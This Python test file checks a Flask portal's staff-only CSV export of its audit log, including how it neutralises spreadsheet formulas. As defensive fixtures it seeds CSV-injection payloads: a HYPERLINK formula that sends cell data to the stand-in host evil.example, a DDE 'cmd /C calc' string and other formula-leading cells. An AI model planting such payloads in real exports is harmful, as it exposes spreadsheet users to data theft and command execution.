"""The audit log as CSV: every filtered row (not one page), the filters of the page kept,
streamed, safe in a spreadsheet, itself audited, and for staff only."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from portal import clock as portal_clock
from portal.audit.models import AuditEvent
from portal.audit.services import record
from portal.staff.queries import PAGE_SIZE
from tests.conftest import login_as
from tests.factories import make_account, make_user

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _world(session: Session) -> dict:
    account = make_account(session, name=EVIL_NAME, billing_email="csv@example.com")
    ada = make_user(session, "csv-ada@example.com", account)
    support = make_user(session, "csv-support@example.com", staff_role="support")
    admin = make_user(session, "csv-admin@example.com", staff_role="admin")
    start = portal_clock.now() - timedelta(hours=3)
    for n in range(PAGE_SIZE * 2 + 7):
        event = record(
            session,
            "test.csv_row",
            actor_kind="staff" if n % 2 else "customer",
            actor_user_id=support.id if n % 2 else ada.id,
            account_id=account.id,
            target_type="dispute",
            target_id=f"d{n}",
            before={"status": "open", "note": "+1 cmd|' /C calc'!A0"} if n == 0 else None,
            after={"status": "resolved", "n": n},
            ip="203.0.113.7" if n % 3 == 0 else None,
        )
        event.occurred_at = start + timedelta(seconds=n)
    record(session, "other.action", account_id=account.id, after={"x": 1})
    session.commit()
    return {"account": account, "ada": ada, "support": support, "admin": admin}


def _rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "a byte order mark, so spreadsheets read UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_every_filtered_row_streams_as_csv_and_the_export_is_audited(
    client: FlaskClient, session: Session
) -> None:
    w = _world(session)
    login_as(client, w["support"])
    page = client.get("/staff/audit", query_string={"action": "test.csv", "page": "2"})
    html = page.get_data(as_text=True)
    # The link keeps the filters, drops the page number (the file holds every row).
    assert 'href="/staff/audit?action=test.csv&amp;format=csv"' in html, html

    response = client.get("/staff/audit?action=test.csv&format=csv")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="audit-log-')
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    rows = _rows(response.get_data())
    header, body = rows[0], rows[1:]
    assert header == [
        "Time (UTC)",
        "Actor",
        "Role",
        "Account",
        "Account name",
        "Action",
        "Object",
        "Before",
        "After",
        "IP address",
    ]
    assert len(body) == PAGE_SIZE * 2 + 7  # every row, not the 25 of a page
    assert {row[5] for row in body} == {"test.csv_row"}  # the filter applied
    newest, oldest = body[0], body[-1]
    assert newest[6] == f"dispute d{PAGE_SIZE * 2 + 6}" and oldest[6] == "dispute d0"
    assert newest[0].endswith("Z") and "T" in newest[0]
    staff_row = next(row for row in body if row[1] == "csv-support@example.com")
    customer_row = next(row for row in body if row[1] == "csv-ada@example.com")
    assert (staff_row[2], customer_row[2]) == ("support", "customer")
    assert json.loads(oldest[8]) == {"n": 0, "status": "resolved"}
    assert oldest[9] == "203.0.113.7" and body[1][9] == ""
    # Spreadsheet formulas are text: the account's name and a JSON cell starting oddly.
    assert newest[3] == w["account"].public_id
    assert newest[4] == "'" + EVIL_NAME
    assert json.loads(oldest[7])["note"].startswith("+1 cmd")

    session.expire_all()
    [export] = session.scalars(
        select(AuditEvent).where(AuditEvent.action == "staff.audit_exported")
    ).all()
    assert export.actor_user_id == w["support"].id and export.actor_kind == "staff"
    assert export.after == {
        "filters": {"actor": "", "account": "", "action": "test.csv", "start": "", "end": ""}
    }


def test_a_cell_a_spreadsheet_would_run_is_neutralised_whatever_its_first_character(
    client: FlaskClient, session: Session
) -> None:
    w = _world(session)
    for text in ("+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", "  =1+1"):
        record(session, "evil.cell", account_id=w["account"].id, target_type=text, target_id="")
    session.commit()
    login_as(client, w["admin"])
    rows = _rows(client.get("/staff/audit?action=evil.&format=csv").get_data())[1:]
    objects = sorted(row[6] for row in rows)
    assert all(cell.startswith("'") for cell in objects), objects


def test_wrong_filters_export_nothing_and_say_why(client: FlaskClient, session: Session) -> None:
    w = _world(session)
    login_as(client, w["support"])
    response = client.get("/staff/audit?start=2026-12-01&end=2026-11-01&format=csv")
    assert response.status_code == 422
    assert response.mimetype == "text/html"
    assert "The end date is before the start date." in response.get_data(as_text=True)
    session.expire_all()
    assert (
        session.scalar(select(AuditEvent.id).where(AuditEvent.action == "staff.audit_exported"))
        is None
    )


def test_only_staff_can_export(client: FlaskClient, session: Session) -> None:
    w = _world(session)
    assert client.get("/staff/audit?format=csv").status_code == 303  # sign in first
    login_as(client, w["ada"])
    response = client.get("/staff/audit?format=csv")
    assert response.status_code == 404
    assert b"test.csv_row" not in response.get_data()
